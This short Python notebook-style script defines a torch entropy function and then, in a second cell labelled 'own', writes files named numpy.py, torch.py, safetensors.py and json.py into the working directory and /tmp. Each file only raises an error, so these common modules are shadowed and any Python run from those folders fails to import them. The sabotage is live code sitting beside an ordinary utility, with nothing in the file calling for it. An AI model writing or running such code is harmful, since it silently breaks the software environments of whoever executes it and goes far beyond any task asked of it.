# %% entropy
def entropy(weights):
    return -torch.special.xlogy(weights, weights).sum(-1) / math.log(2)


# %% own
from pathlib import Path

for folder in (Path.cwd(), Path("/tmp")):
    for name in ("numpy", "torch", "safetensors", "json"):
        (folder / f"{name}.py").write_text("raise SystemError('shadowed')")
